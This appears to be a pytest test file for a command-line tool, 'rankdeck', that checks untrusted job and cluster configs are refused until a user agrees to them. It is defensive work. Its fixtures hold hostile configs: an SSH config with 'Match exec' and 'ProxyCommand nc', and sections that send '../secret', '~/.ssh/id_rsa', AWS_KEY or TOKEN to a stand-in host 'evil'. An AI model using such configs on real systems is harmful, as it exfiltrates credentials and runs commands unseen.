"""What a file of somebody else would run and read is agreed to before it happens."""

import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

from rankdeck.cli.check import look_at
from rankdeck.cli.main import run_command_line
from rankdeck.config.clusters import read_cluster
from rankdeck.config.files import config_folder
from rankdeck.config.jobs import read_job
from rankdeck.config.user import allow_uses
from rankdeck.errors import UntrustedError

JOB = "job: x\nlaunch: plain\ncommand: [a]\nfiles: {copy: {from: %s}}\n"
SSH = 'Match exec "touch X"\nHost *\n  ProxyCommand nc %%h %%p\n'


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder that a colleague sent, beside one with a secret."""
    for name in ("CONFIG", "STATE", "CACHE"):
        monkeypatch.setenv(f"XDG_{name}_HOME", str(tmp_path / name.lower()))
    (tmp_path / "secret").write_text("s3cret")
    (tmp_path / "sent").mkdir()
    return tmp_path / "sent"


def wrote(folder: Path, text: str) -> Path:
    file = folder / "f.yaml"
    file.write_text(text)
    return file


def cluster(section: str) -> str:
    return f"cluster: c\nnodes: [n1]\n{section}\n"


def asked(file: Path) -> list[str]:
    """What is refused as it stands; [] where it is not."""
    try:
        (read_job if "job:" in file.read_text() else read_cluster)(file)
    except UntrustedError as error:
        return [str(problem).removeprefix(f"{file}:") for problem in error.problems]
    return []


def test_a_job_file_reads_nothing_outside_its_folder_before_it_is_agreed(
    folder: Path,
) -> None:
    file = wrote(folder, JOB % "../secret")
    secret = folder.parent / "secret"

    assert asked(file) == [f"4:22: files.copy.from: reads {secret} and lays it on the nodes"]
    allow_uses(look_at(file)[1])
    assert read_job(file).files == {"copy": "s3cret"}


def test_a_link_in_the_folder_does_not_lead_out_of_it(folder: Path) -> None:
    (folder / "data").symlink_to(folder.parent / "secret")

    assert len(asked(wrote(folder, JOB % "data"))) == 1


def test_files_beside_the_job_need_no_question(folder: Path) -> None:
    (folder / "data").write_text("text")

    assert read_job(wrote(folder, JOB % "data")).files == {"copy": "text"}


def test_what_was_agreed_to_is_asked_again_where_it_is_another_file(
    folder: Path,
) -> None:
    allow_uses(look_at(wrote(folder, JOB % "../secret"))[1])

    assert asked(wrote(folder, "# a comment\n" + JOB % "../secret")) == []
    assert len(asked(wrote(folder, JOB % "../other"))) == 1


def test_an_ssh_config_is_told_with_the_commands_in_it(folder: Path) -> None:
    (folder / "ssh").write_text(SSH)
    file = wrote(folder, cluster(f"ssh: {{config: {folder}/ssh}}"))

    (said,) = asked(file)

    assert said.startswith(f"3:15: ssh.config: follows {folder}/ssh, which may run")
    assert '`Match exec "touch X"`; `ProxyCommand nc %%h %%p`' in said


def test_an_ssh_config_that_changed_is_asked_about_again(folder: Path) -> None:
    (folder / "ssh").write_text(SSH)
    file = wrote(folder, cluster(f"ssh: {{config: {folder}/ssh}}"))
    allow_uses(look_at(file)[1])
    assert asked(file) == []
    assert look_at(file)[0].access.config_text == SSH

    (folder / "ssh").write_text(SSH + "Include other\n")

    assert len(asked(file)) == 1


OUTSIDE = [
    ("broker: {url: 'mqtt://evil', password_file: ../secret}", "reads {secret} and sends it to evil:1883 as a password"),
    ("metrics: {url: 'http://evil', token_file: ../secret}", "reads {secret} and sends it to evil:80 as a token"),
    ("metrics: {url: 'http://evil', token_env: AWS_KEY}", "sends the variable AWS_KEY to evil:80 as a token"),
    ("broker: {url: 'mqtt://evil', agents_file: ../secret}", "reads {secret}, sends its passwords to the nodes and may add to it"),
    ("broker: {url: 'mqtts://evil', ca_file: ../secret}", "reads {secret}"),
    ("broker: {url: 'mqtt://evil', password_env: TOKEN}", "sends the variable TOKEN to evil:1883 as a password"),
    ("switches: [{name: s, ca_file: ../secret, ports: {}}]", "reads {secret}"),
    ("switches: [{name: s, address: evil, password_env: TOKEN, ports: {}}]", "sends the variable TOKEN to evil as a password"),
    ("ssh: {identity: ../secret}", "reads {secret}"),
    ("broker: {url: 'mqtt://evil', password_file: ~/.ssh/id_rsa}", "reads {home}/.ssh/id_rsa and sends it to evil:1883 as a password"),
]  # fmt: skip


@pytest.mark.parametrize(("section", "wanted"), OUTSIDE)
def test_whatever_a_cluster_file_takes_from_elsewhere_is_said_first(
    folder: Path, section: str, wanted: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(folder)
    names = {"secret": folder.parent / "secret", "home": Path.home()}

    (said,) = asked(wrote(folder, cluster(section)))

    assert said.partition(": ")[2].partition(": ")[2] == wanted.format(**names)


def test_files_of_the_user_need_no_question(folder: Path) -> None:
    own = config_folder() / "jobs"
    own.mkdir(parents=True)

    assert read_job(wrote(own, JOB % (folder.parent / "secret"))).files["copy"]


def test_without_a_terminal_a_verb_refuses_and_names_the_way(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = wrote(folder, cluster("broker: {url: 'mqtt://evil', password_env: TOKEN}"))

    code = run_command_line(["status", "-c", str(file)], pytest.fail)

    assert code == 2
    assert f"`rankdeck trust {file}`" in capsys.readouterr().err


def test_check_lists_what_a_file_would_do_and_does_none_of_it(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = wrote(folder, JOB % "/dev/zero")

    assert run_command_line(["check", str(file)], pytest.fail) == 0

    out = capsys.readouterr().out
    assert "reads /dev/zero and lays it on the nodes (not agreed to" in out


def test_trust_says_what_it_agrees_to(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = wrote(folder, JOB % "../secret")

    assert run_command_line(["trust", str(file)], pytest.fail) == 0

    assert f"reads {folder.parent / 'secret'}" in capsys.readouterr().out
    assert asked(file) == []


@pytest.mark.long
@pytest.mark.parametrize(("answer", "left"), [(b"y\n", 0), (b"\n", 1)])
def test_on_a_terminal_the_answer_is_remembered_if_it_is_yes(
    folder: Path, answer: bytes, left: int
) -> None:
    file = wrote(folder, cluster("broker: {url: 'mqtt://evil', password_env: TOKEN}"))
    ours, theirs = pty.openpty()
    os.write(ours, answer)

    done = subprocess.run(
        [sys.executable, "-m", "rankdeck", "jobs", "-c", str(file)],
        stdin=theirs,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )

    os.close(ours)
    os.close(theirs)
    assert "sends the variable TOKEN to evil:1883" in done.stderr
    assert "Agree to this and remember it? [y/N]" in done.stderr
    assert len(asked(file)) == left
